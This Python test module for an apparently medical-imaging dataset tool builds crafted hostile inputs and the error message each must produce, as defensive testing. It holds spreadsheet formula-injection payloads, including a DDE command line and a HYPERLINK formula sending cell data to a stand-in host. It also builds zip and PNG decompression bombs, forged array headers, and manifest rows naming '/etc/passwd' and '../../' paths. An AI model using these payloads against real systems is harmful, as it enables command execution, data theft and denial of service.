"""The hostile inputs: each entry builds one crafted file or folder (at test time) and says what must happen.

Entries register with @hostile(name, fault, expect); a test module per class of fault parametrises over
`cases(fault)`. `expect` is a regular expression the user-facing message must match.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np

from tests._data_files import write_image

PROJECT_ROOT = Path(__file__).resolve().parents[2]


@dataclass(frozen=True)
class Hostile:
    name: str
    fault: str
    build: Callable[[Path], object]  # the crafted input: usually a file or folder, for cells the text itself
    expect: str

    def __str__(self) -> str:
        return self.name


CORPUS: list[Hostile] = []


def hostile(name: str, fault: str, expect: str = ""):
    def register(build: Callable[[Path], object]) -> Callable[[Path], object]:
        CORPUS.append(Hostile(name, fault, build, expect))
        return build
    return register


def cases(fault: str) -> list[Hostile]:
    return [c for c in CORPUS if c.fault == fault]


def run_with_file_size_limit(code: str, limit_bytes: int, timeout: float = 120) -> tuple[int, str]:
    """Run `code` in a child whose writes beyond `limit_bytes` in any file fail (RLIMIT_FSIZE -> EFBIG), the
    way a full disk fails them, without needing a full disk. Returns (exit code, stderr)."""
    prelude = ("import resource, signal\n"
               "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
               f"resource.setrlimit(resource.RLIMIT_FSIZE, ({limit_bytes}, resource.RLIM_INFINITY))\n")
    done = subprocess.run([sys.executable, "-c", prelude + code], cwd=PROJECT_ROOT, capture_output=True, text=True,
                          timeout=timeout)
    return done.returncode, done.stderr


def load_in_bounded_process(path: Path, memory_bytes: int = 1_500_000_000, timeout: float = 120) -> tuple[int, str]:
    """load_dataset(path) in a child limited to `memory_bytes` of address space (a runaway allocation
    fails there with MemoryError instead of taking this machine down). Returns (exit code, stderr)."""
    code = ("import resource, sys\n"
            f"resource.setrlimit(resource.RLIMIT_AS, ({memory_bytes}, {memory_bytes}))\n"
            "from core.data import load_dataset\n"
            "from core.errors import InputError\n"
            "try:\n"
            "    load_dataset(sys.argv[1])\n"
            "except InputError as exc:\n"
            "    print(f'InputError: {exc}', file=sys.stderr); sys.exit(2)\n")
    done = subprocess.run([sys.executable, "-c", code, str(path)], cwd=PROJECT_ROOT, capture_output=True,
                          text=True, timeout=timeout)
    return done.returncode, done.stderr


# -- helpers -------------------------------------------------------------------------------------------
def _npy_bytes(shape: tuple, dtype: str, payload: bytes) -> bytes:
    """A .npy entry whose header says `shape` but whose data is `payload` (a header that lies)."""
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": np.dtype(dtype).str, "fortran_order": False,
                                               "shape": shape})
    return buf.getvalue() + payload


def _npz(path: Path, **arrays) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    np.savez(path, **arrays)
    return path


def _raw_npz(path: Path, entries: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return path


_IMAGES = np.zeros((2, 28, 28), np.uint8)


# -- 1. counts and labels read from files are bounded before anything is allocated ------------------
@hostile("npz-label-1e9", "bounded", r"train_labels hold values 1e\+09.*0\.\.999")
def _(tmp: Path) -> Path:
    return _npz(tmp / "h.npz", train_images=_IMAGES[:1], train_labels=np.array([[10**9]]))


@hostile("npz-string-labels", "bounded", r"train_labels holds <U\d+ values.*must be an array of numbers")
def _(tmp: Path) -> Path:
    return _npz(tmp / "h.npz", train_images=_IMAGES, train_labels=np.array([["CNV"], ["DME"]]))


@hostile("npz-no-images", "bounded", r"train_images holds no images \(shape \(0, 28, 28\)\)")
def _(tmp: Path) -> Path:
    return _npz(tmp / "h.npz", train_images=np.zeros((0, 28, 28), np.uint8), train_labels=np.zeros((0, 1), int))


@hostile("npz-zero-width-images", "bounded", r"train_images has shape \(2, 0, 28\): images of no pixels")
def _(tmp: Path) -> Path:
    return _npz(tmp / "h.npz", train_images=np.zeros((2, 0, 28), np.uint8), train_labels=np.zeros((2, 1), int))


@hostile("npz-infinite-label", "bounded", r"train_labels must hold whole numbers")
def _(tmp: Path) -> Path:
    return _npz(tmp / "h.npz", train_images=_IMAGES, train_labels=np.array([[np.inf], [0.0]]))


@hostile("npz-image-header-claims-1e9-rows", "bounded",
         r"train_images claims shape \(1000000000, 28, 28\).*784 bytes")
def _(tmp: Path) -> Path:
    return _raw_npz(tmp / "h.npz", {
        "train_images.npy": _npy_bytes((10**9, 28, 28), "u1", bytes(784)),
        "train_labels.npy": _npy_bytes((10**9, 1), "<i8", bytes(8)),
    })


@hostile("npz-label-header-claims-1e9-rows", "bounded", r"train_labels claims shape \(1000000000, 1\)")
def _(tmp: Path) -> Path:
    return _raw_npz(tmp / "h.npz", {
        "train_images.npy": _npy_bytes((1, 28, 28), "u1", bytes(784)),
        "train_labels.npy": _npy_bytes((10**9, 1), "<i8", bytes(8)),
    })


@hostile("npz-5000-label-columns", "bounded", r"train_labels has 5,000 label columns, above the limit of 1000")
def _(tmp: Path) -> Path:
    return _npz(tmp / "h.npz", train_images=_IMAGES, train_labels=np.zeros((2, 5000), np.uint8))


@hostile("csv-1001-distinct-labels", "bounded", r"1,001 distinct labels, above the limit of 1000 classes")
def _(tmp: Path) -> Path:
    root = tmp / "m"
    png = write_image(root / "img0.png", size=(4, 4)).read_bytes()
    for i in range(1, 1001):
        (root / f"img{i}.png").write_bytes(png)
    (root / "labels.csv").write_text("path,label\n" + "".join(f"img{i}.png,{i * 7919}\n" for i in range(1001)))
    return root / "labels.csv"


# -- 2. text a spreadsheet would run as a formula, in any exported cell or column name ---------------
for _name, _cell in (("csv-cmd-dde", "=cmd|' /C calc'!A0"), ("csv-plus-formula", "+SUM(1,2)"),
                     ("csv-minus-formula", "-2+3+cmd|' /C calc'!A0"), ("csv-at-formula", "@SUM(A1:A9)"),
                     ("csv-tab-then-formula", "\t=1+1"), ("csv-cr-then-formula", "\r=1+1"),
                     ("csv-hyperlink", '=HYPERLINK("http://example.invalid/?"&A1,"open")')):
    hostile(_name, "csv")(lambda tmp, cell=_cell: cell)


# -- 3. zip bombs with honest headers; archives carrying files no reader uses -----------------------
def _zip_with_images(path: Path, extra: dict[str, bytes]) -> Path:
    """A real two-class image folder (3 PNGs per class) zipped, plus `extra` entries (deflated)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for cls in ("yes", "no"):
            for i in range(3):
                image = write_image(path.parent / "src" / cls / f"{cls}-{i}.png", size=(16, 16), seed=i + len(cls))
                zf.write(image, f"{cls}/{cls}-{i}.png")
        for name, data in extra.items():
            zf.writestr(name, data)
    return path


@hostile("zip-60MB-of-non-image-data", "zip-extract")
def _(tmp: Path) -> Path:
    return _zip_with_images(tmp / "up.zip", {"notes/zeros.bin": bytes(60_000_000), "README.txt": b"hello"})


@hostile("zip-honest-bomb-as-png", "zip-refuse",
         r"up\.zip: [\d,]+ compressed bytes would expand to 40,[\d,]+ bytes \(\d+:1\) for 7 image\(s\).*zip bomb")
def _(tmp: Path) -> Path:
    return _zip_with_images(tmp / "up.zip", {"yes/zeros.png": bytes(40_000_000)})


@hostile("zip-honest-bomb-as-csv", "zip-refuse",
         r"up\.zip: [\d,]+ compressed bytes would expand to 30,[\d,]+ bytes \(\d+:1\) for 6 image\(s\).*zip bomb")
def _(tmp: Path) -> Path:
    return _zip_with_images(tmp / "up.zip", {"labels.csv": b"path,label\n" + b" " * 30_000_000})


# -- 5. damaged cache files: for these entries `build(tmp)` returns a function damaging a valid file in place -
def _overwrite_tail(path: Path, n: int = 16) -> None:
    """Overwrite bytes inside the last part of the payload: headers and footers stay valid."""
    data = bytearray(path.read_bytes())
    at = len(data) - 8 - n
    data[at:at + n] = bytes((b ^ 0x5A) for b in data[at:at + n])
    path.write_bytes(bytes(data))


def _cut_footer(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[:-12] + b"\0" * 12)


@hostile("cache-payload-bytes-overwritten", "damage")
def _(tmp: Path):
    return _overwrite_tail


@hostile("cache-footer-zeroed", "damage")
def _(tmp: Path):
    return _cut_footer


# -- 6. a full disk or unwritable workspace while storing: `build(tmp)` returns the code run under the limit ------
_REPORT = ("\nexcept InputError as exc:\n"
           "    print(f'{type(exc).__name__}: {exc}', file=sys.stderr); sys.exit(2)\n")


@hostile("full-disk-recording-an-answer", "storage",
         r"StorageError: workspace .*: writing to the registry failed: .*(full|I/O|too large)")
def _(tmp: Path) -> str:
    return ("import sys\nfrom core.errors import InputError\nfrom core.store import Workspace\n"
            "from core.readers import record_answer\n"
            "ws = Workspace(__import__('pathlib').Path(sys.argv[1]))\n"
            "try:\n    record_answer(ws, sys.argv[2], sys.argv[3], sys.argv[4], 'CNV')" + _REPORT)


@hostile("full-disk-storing-an-upload", "storage",
         r"StorageError: workspace .*: storing the upload 'scans\.zip' in .*uploads failed: File too large; "
         r"the disk \(or your quota\) is full")
def _(tmp: Path) -> str:
    return ("import sys\nfrom core.errors import InputError\nfrom core.store import Workspace\n"
            "from core.data.ingest import ingest_upload\n"
            "ws = Workspace(__import__('pathlib').Path(sys.argv[1]))\n"
            "try:\n    ingest_upload(ws, 'scans.zip', b'PK' + bytes(200_000))" + _REPORT)


# -- 7. images that are corrupt behind a valid header (and end marker) ---------------------------------
def _jpeg_bytes(seed: int = 0, size: int = 64) -> bytes:
    rng = np.random.default_rng(seed)
    buf = io.BytesIO()
    from PIL import Image

    Image.fromarray((rng.random((size, size)) * 255).astype(np.uint8)).save(buf, "JPEG", quality=90)
    return buf.getvalue()


@hostile("jpeg-garbage-in-scan-data", "image",
         r"CNV-9-1\.jpeg: corrupt JPEG data \(Corrupt JPEG data: 596 extraneous bytes")
def _(tmp: Path) -> Path:
    data = bytearray(_jpeg_bytes())
    start = data.index(b"\xff\xda") + 200
    for i in range(start, start + 200):  # scramble entropy-coded bytes, never making a marker
        data[i] = 0x00 if data[i] == 0xFF else (data[i] * 7 + 13) % 256
    path = tmp / "CNV-9-1.jpeg"
    path.write_bytes(bytes(data))
    return path


@hostile("jpeg-truncated-with-end-marker-appended", "image",
         r"CNV-9-1\.jpeg: corrupt JPEG data \(Corrupt JPEG data: premature end of data segment")
def _(tmp: Path) -> Path:
    data = _jpeg_bytes()
    path = tmp / "CNV-9-1.jpeg"
    path.write_bytes(data[: len(data) // 2] + b"\xff\xd9")
    return path


@hostile("tiff-float-all-nan", "image", r"CNV-9-1\.tiff: cannot decode image \(no finite pixel value")
def _(tmp: Path) -> Path:
    from PIL import Image

    path = tmp / "CNV-9-1.tiff"
    Image.fromarray(np.full((32, 32), np.nan, np.float32), mode="F").save(path)
    return path


# -- 8. half-written state left by killed processes: `build(tmp)` makes the zip a killed extraction leaves ---
@hostile("sigkill-during-zip-extraction", "half-written")
def _(tmp: Path) -> Path:
    path = tmp / "big.zip"
    rng = np.random.default_rng(0)
    block = rng.integers(0, 256, 30_000, dtype=np.uint8).tobytes()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for i in range(3000):
            zf.writestr(f"{'ab'[i % 2]}/img{i}.png", block[i % 97:] + block[:i % 97])
    return path


# -- 9. inputs that used to give weak messages: each message must name the file and the problem ------------
@hostile("zip-manifest-without-label-column", "message-dataset",
         r"found no usable CSV manifest: labels\.csv has no label column .*found filename, notes\)")
def _(tmp: Path) -> Path:
    path = tmp / "m.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(3):
            zf.write(write_image(tmp / "src" / f"img{i}.png", size=(8, 8), seed=i), f"images/img{i}.png")
        zf.writestr("labels.csv", "filename,notes\n" + "".join(f"img{i}.png,seen\n" for i in range(3)))
    return path


@hostile("folder-manifest-without-image-column", "message-dataset",
         r"found no usable CSV manifest: labels\.csv has no image column .*found label, patient_id\)")
def _(tmp: Path) -> Path:
    root = tmp / "d"
    for i in range(3):
        write_image(root / "images" / f"img{i}.png", size=(8, 8), seed=i)
    (root / "labels.csv").write_text("label,patient_id\nCNV,1\nDME,2\nCNV,3\n")
    return root


def _task_file(tmp: Path, text: str) -> Path:
    path = tmp / "task.toml"
    path.write_text(text)
    return path


for _name, _text, _expect in (
        ("task-classes-as-one-string", 'classes = "CNVDMEX"', r"task\.toml: 'classes' must be a list of class names"),
        ("task-classes-as-a-table", "[classes]\nCNV = 1\nDME = 2", r"task\.toml: 'classes' must be a list"),
        ("task-classes-differ-only-in-case", 'classes = ["CNV", "cnv", "DME"]',
         r"task\.toml: task 'custom': classes 'CNV' and 'cnv' differ only in case"),
        ("task-empty-class-name", 'classes = ["CNV", " ", "DME"]', r"task\.toml: .*class name number 2 is empty"),
        ("task-class-name-not-text", 'classes = ["CNV", 2, "DME"]',
         r"task\.toml: class name number 2 is 2, not text; write every class name in quotes"),
        ("task-penalty-ragged-rows", 'classes = ["A", "B"]\npenalty_matrix = [[0, 1], [1]]',
         r"task\.toml: 'penalty_matrix' rows differ in length \(\[2, 1\]\); it must be 2x2"),
        ("task-penalty-all-zeros", 'classes = ["A", "B"]\npenalty_matrix = [[0, 0], [0, 0]]',
         r"task\.toml: .*penalty matrix is all zeros"),
        ("task-penalty-nonzero-diagonal", 'classes = ["A", "B"]\npenalty_matrix = [[1, 1], [1, 0]]',
         r"task\.toml: .*has 1 on its diagonal \(row 1\): a correct call must cost 0")):
    hostile(_name, "message-task", _expect)(lambda tmp, text=_text: _task_file(tmp, text))


for _name, _matrix, _expect in (
        ("penalty-file-all-zeros", [[0] * 4] * 4, r"pen\.json: the penalty matrix is all zeros"),
        ("penalty-file-nonzero-diagonal", [[0, 1, 1, 1], [1, 2, 1, 1], [1, 1, 0, 1], [1, 1, 1, 0]],
         r"pen\.json: the penalty matrix has 2 on its diagonal \(row 2\)")):
    hostile(_name, "message-penalty", _expect)(
        lambda tmp, m=_matrix: (tmp / "pen.json").write_text(json.dumps(m)) and tmp / "pen.json")


# Model cards: `build(tmp)` gives the text to put in model_card.json beside real weights.
for _name, _card, _expect in (
        ("card-not-json", '{"backbone": "test_efficientnet", ', r"model_card\.json: not a readable JSON model card"),
        ("card-a-list", '["test_efficientnet"]', r"model_card\.json: the model card must be a JSON object, not list"),
        ("card-without-backbone", '{"num_classes": 4, "head": "linear"}', r"model_card\.json: the model card lacks "
                                                                         r"backbone"),
        ("card-task-as-text", '{"backbone": "b", "num_classes": 4, "head": "linear", "task": "oct-kermany"}',
         r"model_card\.json: field 'task' of the model card must be dict, not str"),
        ("card-num-classes-as-text", '{"backbone": "b", "num_classes": "four", "head": "linear"}',
         r"model_card\.json: 'format_version' and 'num_classes' of the model card must be whole numbers")):
    hostile(_name, "message-card", _expect)(lambda tmp, text=_card: text)


# Matrices put into use from the Penalties page's editor, the workspace setting or a report call (4x4, OCT classes).
for _name, _matrix, _expect in (
        ("penalty-edit-all-zeros", [[0] * 4] * 4, r"penalty matrix.* is all zeros: no error would cost anything"),
        ("penalty-edit-mistakes-cost-nothing", np.eye(4).tolist(),
         r"penalty matrix.* costs 0 for every mistake: no error would cost anything")):
    hostile(_name, "message-penalty-use", _expect)(lambda tmp, m=_matrix: m)


def _png_header(path: Path, width: int, height: int) -> Path:
    """A PNG whose header claims width x height pixels (a few dozen bytes on disk: a decompression bomb's header)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b""))
    return path


# Above PIL's own refusal threshold (2 x MAX_IMAGE_PIXELS), so PIL refuses before the size is known.
@hostile("png-bomb-header-20000x20000", "message-image",
         r"bomb\.png: image is 20000x20000 = 400,000,000 pixels, above the limit of 50,000,000 "
         r"\(decompression-bomb guard\)")
def _(tmp: Path) -> Path:
    return _png_header(tmp / "bomb.png", 20000, 20000)


# -- 10. manifests reaching out of their folder (issue 21, item 4): `build(tmp)` gives an upload whose manifest names,
# on line 4, a file outside the upload; the test puts an image where ../../x.png lands (the workspace's uploads).
def _reaching_zip(tmp: Path, named: str) -> Path:
    path = tmp / "up.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for i, name in enumerate(("a", "b")):
            zf.write(write_image(tmp / "src" / f"{name}.png", size=(16, 16), seed=i), f"{name}.png")
        zf.writestr("manifest.csv", f"path,label\na.png,CNV\nb.png,NORMAL\n{named},CNV\n")
    return path


_UPLOAD_RULE = r"\. Refused: a manifest in an upload may name only files inside the upload's own folder"

for _name, _named, _expect in (
        ("zip-manifest-names-etc-passwd", lambda tmp: "/etc/passwd", r"line 4 \('/etc/passwd'\)"),
        ("zip-manifest-names-dotdot-image", lambda tmp: "../../x.png", r"line 4 \('\.\./\.\./x\.png'\)"),
        ("zip-manifest-names-absolute-image",
         lambda tmp: str(write_image(tmp / "private" / "patient.png", size=(16, 16), seed=9)),
         r"line 4 \('/.*/private/patient\.png'\)")):
    hostile(_name, "manifest-reach",
            r"up\.zip/manifest\.csv: 1 row\(s\) name an image path that points outside the dataset folder: "
            + _expect + _UPLOAD_RULE)(lambda tmp, named=_named: _reaching_zip(tmp, named(tmp)))


# -- 11. a damaged workspace registry (issue 21, item 8): `build(tmp)` returns a function that damages the
# registry file at the path it is given in place (WAL folded in first by the test); `expect` is the cause quoted.
def _truncate_registry(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _scramble_page_headers(path: Path) -> None:
    data = bytearray(path.read_bytes())
    for page in range(2, len(data) // 4096):  # every b-tree page header but the first page's
        data[page * 4096: page * 4096 + 12] = b"\xff" * 12
    path.write_bytes(bytes(data))


def _overwrite_header(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[:100] = b"this is not an SQLite header".ljust(100, b"!")
    path.write_bytes(bytes(data))


def _replace_with_text(path: Path) -> None:
    path.write_text("registry\n" * 500)


for _name, _damage, _expect in (
        ("registry-truncated-in-half", _truncate_registry, r"database disk image is malformed"),
        ("registry-page-headers-scrambled", _scramble_page_headers, r"malformed|integrity check|quick check"),
        ("registry-header-overwritten", _overwrite_header, r"file is not a database"),
        ("registry-replaced-by-text", _replace_with_text, r"file is not a database")):
    hostile(_name, "registry", _expect)(lambda tmp, damage=_damage: damage)


# -- 12. a model card whose sizes would allocate without bound (issue 21, item 9)
hostile("card-num-classes-1e9", "message-card",
        r"model_card\.json: num_classes of the model card is 1000000000\.0, outside 0\.\.1,000")(
    lambda tmp: '{"backbone": "test_efficientnet", "num_classes": 1e9, "head": "linear"}')


# -- DICOM uploads (issue 21): each builds export.zip; "dicom-refuse" must be refused naming the file and the
# problem, "dicom-accept" must be added whole (2 images) --------------------------------------------------------
def _dicom_zip(tmp: Path, odd_name: str, **odd) -> Path:
    from tests._dicom_files import write_dicom

    src = tmp / "dicom-src"
    write_dicom(src / "NORMAL" / "plain.dcm", np.zeros((4, 4), np.uint8))
    write_dicom(src / "PNEUMONIA" / odd_name, np.arange(16, dtype=np.uint8).reshape(4, 4), **odd)
    path = tmp / "export.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for file in sorted(p for p in src.rglob("*") if p.is_file()):
            zf.write(file, file.relative_to(src).as_posix())
    return path


@hostile("dicom-burned-in-annotation", "dicom-refuse",
         r"export\.zip/PNEUMONIA/DOE_JOHN_MRN-123456\.dcm: BurnedInAnnotation = YES")
def _(tmp: Path) -> Path:
    return _dicom_zip(tmp, "DOE_JOHN_MRN-123456.dcm", attributes={"BurnedInAnnotation": "YES"})


@hostile("dicom-jpeg-xl-transfer-syntax", "dicom-refuse",
         r"export\.zip/PNEUMONIA/jxl\.dcm: DICOM transfer syntax 1\.2\.840\.10008\.1\.2\.4\.112 \(JPEG XL\) cannot be "
         r"decoded here")
def _(tmp: Path) -> Path:
    return _dicom_zip(tmp, "jxl.dcm", syntax="1.2.840.10008.1.2.4.112")


@hostile("dicom-extensionless-in-zip", "dicom-accept")
def _(tmp: Path) -> Path:
    return _dicom_zip(tmp, "IM000001")


@hostile("dicom-legacy-without-part10-header", "dicom-accept")
def _(tmp: Path) -> Path:
    return _dicom_zip(tmp, "old.dcm", syntax="legacy")


@hostile("dicom-identifying-file-name", "dicom-accept")
def _(tmp: Path) -> Path:
    return _dicom_zip(tmp, "DOE_JOHN_MRN-123456.dcm", patient_id="MRN-123456")
